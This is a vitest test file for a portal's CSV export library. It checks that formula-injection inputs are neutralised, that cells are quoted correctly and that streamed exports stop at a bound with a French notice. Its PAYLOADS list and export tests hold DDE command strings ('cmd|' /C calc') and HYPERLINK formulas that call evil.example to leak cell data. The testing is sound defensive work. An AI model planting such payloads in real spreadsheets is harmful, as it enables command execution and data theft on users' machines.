// The portal's one CSV writing (src/lib/csv.ts), used by every export: the usual formula-injection payloads are
// defused, cells are quoted as they must be, numbers stay numbers, and the stream is bounded with a French notice.
import { describe, expect, it } from "vitest";
import { csvCell, csvLine, csvStream, truncatedNotice } from "@/lib/csv.ts";
import { invoicesCsv } from "@/features/invoices/tracking/rules/invoice-csv.ts";
import { mandatesCsv } from "@/features/mandates/rules/mandate-table.ts";
import { structuresCsv } from "@/features/rattachements/rules/structure-search-csv.ts";

const PAYLOADS = [
  "=1+1",
  "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Cliquez\")",
  "+1+cmd|' /C calc'!A0",
  "-1+HYPERLINK(\"http://evil.example\")",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "=cmd|' /C notepad'!'A1'",
  "-",
  "+",
];

/** What a spreadsheet sees in the cell once the CSV quoting is undone. */
const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe("csvCell", () => {
  it.each(PAYLOADS)("defuses %j with a leading apostrophe", (payload) => {
    const value = unquoted(csvCell(payload));
    expect(value.startsWith("'")).toBe(true);
    expect(value.slice(1)).toBe(payload);
  });

  it("leaves plain text and numbers as they are, negative amounts included", () => {
    for (const value of ["Côtes-d'Armor", "FA-2026-001", "120,00", "-12,50", "-218.48", "0", "", "Le Client (SERVEXEC)", "a=b", "x-1"]) expect(csvCell(value)).toBe(value);
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
  });

  it("quotes a cell holding the separator, a quote or a line break, doubling the quotes", () => {
    expect(csvCell("a;b")).toBe('"a;b"');
    expect(csvCell('dit "oui"')).toBe('"dit ""oui"""');
    expect(csvCell("ligne 1\nligne 2")).toBe('"ligne 1\nligne 2"');
    expect(csvCell("ligne 1\r\nligne 2")).toBe('"ligne 1\r\nligne 2"');
    expect(csvCell('=A1;"x"')).toBe('"\'=A1;""x"""');
    expect(csvLine(["a", "=b", "c;d"])).toBe("a;'=b;\"c;d\"\r\n");
  });

  it("is the escaping of every export: Rechercher, mandats and structures defuse the same payloads", () => {
    const hostile = "-1+HYPERLINK(\"http://evil.example\")";
    const invoices = invoicesCsv([
      { depositDate: null, recipientName: hostile, recipientIdentifier: "1", type: "FACTURE", number: "=1+1", status: "DEPOSEE", statusChangedAt: new Date(0), totalGross: "-12.50", currency: "EUR", cadre: "A1", supplierName: "@x" },
    ]);
    expect(invoices.split("\r\n")[1]).toBe(`;"'${hostile.replaceAll('"', '""')}";1;Facture;'=1+1;Déposée;01/01/1970;-12,50;EUR;A1;'@x`);
    const mandates = mandatesCsv([{ id: "m", libelle: "\t=x", signataire: "+y", createdAt: new Date(0), revokedAt: null, status: "ACTIF" }]);
    expect(mandates.split("\r\n")[1].startsWith("'\t=x;'+y;")).toBe(true);
    const structures = structuresCsv([
      { identifierType: "SIRET", identifier: "1", raisonSociale: hostile, libelle: "＝1", kind: "PUBLIQUE", status: "ACTIF", adresse: "\r=1", codePostal: "2", ville: "v", pays: "France" },
    ]);
    const cells = structures.split("\r\n")[1];
    expect(cells).toContain(`"'${hostile.replaceAll('"', '""')}"`);
    expect(cells).toContain("'＝1");
    expect(cells).toContain(`"'\r=1"`);
  });
});

async function read(stream: ReadableStream<Uint8Array>): Promise<{ text: string; chunks: number }> {
  const reader = stream.getReader();
  const decoder = new TextDecoder();
  let text = "";
  let chunks = 0;
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return { text, chunks };
    chunks++;
    text += decoder.decode(value, { stream: true });
  }
}

describe("csvStream", () => {
  it("writes the BOM, the headers and the rows, a few hundred lines per chunk, pulled as the reader reads", async () => {
    let pulled = 0;
    async function* rows() {
      for (let i = 0; i < 1200; i++) {
        pulled++;
        yield [`f${i}`, i % 2 ? "=x" : "ok"];
      }
    }
    const stream = csvStream({ headers: ["Numéro", "Texte"], rows: rows(), maxRows: 5000 });
    const reader = stream.getReader();
    const first = await reader.read();
    expect(pulled).toBeLessThan(1200); // not everything is read before the first bytes go out
    expect(Array.from(first.value!.slice(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    reader.releaseLock();
    const rest = await read(stream);
    const text = new TextDecoder().decode(first.value) + rest.text;
    const lines = text.replace(/^\uFEFF/, "").split("\r\n");
    expect(lines[0]).toBe("Numéro;Texte");
    expect(lines[2]).toBe("f1;'=x");
    expect(lines).toHaveLength(1202);
  });

  it("stops at its bound and says so in French on the last line; never reads far beyond it", async () => {
    let pulled = 0;
    function* endless() {
      for (;;) {
        pulled++;
        yield ["ligne"];
      }
    }
    let truncated = false;
    const { text } = await read(csvStream({ headers: ["x"], rows: endless(), maxRows: 1000, onTruncated: () => (truncated = true) }));
    const lines = text.replace(/^\uFEFF/, "").trimEnd().split("\r\n");
    expect(lines).toHaveLength(1 + 1000 + 1);
    expect(lines.at(-1)).toBe(truncatedNotice(1000));
    expect(lines.at(-1)).toBe("Export limité aux 1 000 premières lignes : précisez vos critères pour obtenir les suivantes.");
    expect(truncated).toBe(true);
    expect(pulled).toBe(1001);
  });
});
